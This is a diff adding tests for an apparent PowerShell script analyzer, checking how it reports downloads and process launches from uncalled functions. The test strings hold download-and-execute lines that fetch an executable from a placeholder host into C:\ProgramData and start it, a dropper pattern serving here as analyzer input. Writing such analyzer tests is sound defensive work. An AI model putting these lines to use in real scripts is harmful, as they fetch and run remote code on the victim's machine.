@@ -218,3 +218,25 @@ def test_a_script_that_ends_inside_a_text(text, said):
 def test_what_is_broken_or_makes_no_sense_costs_itself(script: str) -> None:
     ran = run(script.format("(New-Object Net.WebClient).DownloadFile('http://a.example.test/x', 'C:\\a.exe')"))
     assert ran.urls == ["http://a.example.test/x"]
+
+
+LIBRARY = """
+function Get-Part($Name, $To = 'C:\\ProgramData\\a.exe') { (New-Object Net.WebClient).DownloadFile('http://a.example.test/' + $Name, $To) }
+function Get-Other { param($Url) Invoke-WebRequest $Url -OutFile C:\\b.txt }
+function Start-Both { Get-Part one; Start-Process 'C:\\ProgramData\\a.exe' $args[0] }
+function Test-Long { for (;;) { $x += 1 } }
+"""
+
+
+def test_functions_nobody_calls_are_told_as_guesses():
+    out = run(LIBRARY)
+    told = {(fact.value, fact.confidence) for fact in out.facts("effect.download")}
+    assert told == {("http://a.example.test/<Unknown: argument of the caller>", 0.4), ("http://a.example.test/one", 0.4)}
+    assert [fact.value.split()[0] for fact in out.facts("effect.run")] == ["C:\\ProgramData\\a.exe"]
+    assert not out.problems
+
+
+def test_functions_nobody_calls_are_left_alone_where_the_script_does_something():
+    out = run(LIBRARY + "Start-Process calc")
+    assert out.values("effect.run") == ["calc"]
+    assert not out.urls
